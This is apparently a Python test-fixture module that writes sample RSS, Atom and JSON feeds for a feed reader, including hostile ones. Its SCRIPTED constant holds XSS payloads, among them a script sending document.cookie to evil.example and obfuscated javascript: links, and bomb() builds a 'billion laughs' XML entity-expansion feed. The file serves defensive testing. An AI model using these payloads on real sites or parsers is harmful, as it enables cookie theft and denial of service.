"""Writes the feeds of the sample as bytes: RSS 2.0, Atom, JSON Feed 1.1, and the hostile ones among them."""

import json
from email.utils import format_datetime
from itertools import pairwise
from xml.sax.saxutils import escape, quoteattr

from deploy.sample.authored import LINK, Item

SCRIPTED = (
    '<p onclick="steal()">{text}</p><script>document.title = "owned"; fetch("https://evil.example/" + document.cookie)</script>'
    '<img src="https://evil.example/pixel.gif" onerror="alert(1)" width="1" height="1">'
    '<p><a href="javascript:alert(document.domain)">Read more</a> <a href="JaVaScRiPt&colon;alert(2)">here</a></p>'
    '<iframe src="https://evil.example/frame"></iframe>'
)


def html(item: Item) -> str:
    """The item's text as the HTML that a feed carries."""
    body = LINK.sub(lambda m: f"<a href={quoteattr(m[2])}>{m[1]}</a>", escape(item.text))
    return SCRIPTED.format(text=body) if item.case == "script in HTML" else f"<p>{body}</p>"


def address(item: Item, site: str) -> str:
    return f"https://{site}.example/{item.key}" if item.title else ""


def rss(items: list[Item]) -> bytes:
    """RSS 2.0, newest first."""
    head = '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>\n'
    about = "<title>The Desk</title><link>https://desk.example/</link><description>News of the day, from the desk.</description>\n"
    return (head + about + "".join(map(_rss_item, items)) + "</channel></rss>\n").encode()


def _rss_item(item: Item) -> str:
    if not item.title:  # the empty case: an item with nothing in it but its id
        return f'<item><title></title><description> </description><guid isPermaLink="false">{item.key}</guid></item>\n'
    return (
        f"<item><title>{escape(item.title)}</title><link>{address(item, 'desk')}</link>"
        f'<guid isPermaLink="false">urn:sample:{item.key}</guid><dc:creator>{escape(item.author)}</dc:creator>'
        f"<pubDate>{format_datetime(item.when)}</pubDate><description>{escape(html(item))}</description></item>\n"
    )


def atom(items: list[Item], title: str = "Planet Arnau", site: str = "planet") -> str:
    """Atom 1.0, newest first; it declares utf-8, and the caller chooses the bytes."""
    head = '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom">\n'
    newest = max(item.when for item in items).isoformat()
    about = f'<id>urn:sample:{site}</id><title>{escape(title)}</title><link href="https://{site}.example/"/><updated>{newest}</updated>\n'
    return head + about + "".join(_atom_entry(item, site) for item in items) + "</feed>\n"


def _atom_entry(item: Item, site: str) -> str:
    return (
        f"<entry><id>urn:sample:{item.key}</id><title>{escape(item.title)}</title><link href={quoteattr(address(item, site))}/>"
        f"<author><name>{escape(item.author)}</name></author><published>{item.when.isoformat()}</published>"
        f'<updated>{item.when.isoformat()}</updated><content type="html">{escape(html(item))}</content></entry>\n'
    )


def json_feed(items: list[Item]) -> bytes:
    """JSON Feed 1.1, newest first; the odd item has a number as its id and no readable date."""
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "The Wire",
        "home_page_url": "https://wire.example/",
        "items": [
            {
                "id": 20261112 if item.case else f"urn:sample:{item.key}",
                "url": address(item, "wire"),
                "title": item.title,
                "content_html": html(item),
                "date_published": "the day before yesterday" if item.case else item.when.isoformat(),
                "authors": [{"name": item.author}],
            }
            for item in items
        ],
    }
    return json.dumps(feed, ensure_ascii=False, indent=1).encode()


def broken(items: list[Item]) -> bytes:
    """RSS that no XML parser takes: a bare ampersand, an unclosed <b>, an attribute without quotes, and no end."""
    text = '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0"><channel><title>Village Courier & Friends</title>\n'
    for number, item in enumerate(items):
        text += f"<item><title>{item.title}</title><link>{address(item, 'courier')}</link><guid isPermaLink=false>urn:sample:{item.key}</guid>"
        text += f"<pubDate>{format_datetime(item.when)}</pubDate><description>{'<b>' if number == 0 else ''}{item.plain}</description></item>\n"
    return text.encode()


def bomb() -> bytes:
    """RSS with the "billion laughs": ten entities, each ten times the one before."""
    names = [f"lol{level}" for level in range(10)]
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY {name} "{f"&{below};" * 10}">' for below, name in pairwise(names))
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [{entities}]>\n<rss version="2.0"><channel><title>Bomb</title>'
        "<item><title>&lol9;</title><description>&lol9;</description><guid>urn:sample:hostile-bomb</guid></item></channel></rss>\n"
    ).encode()
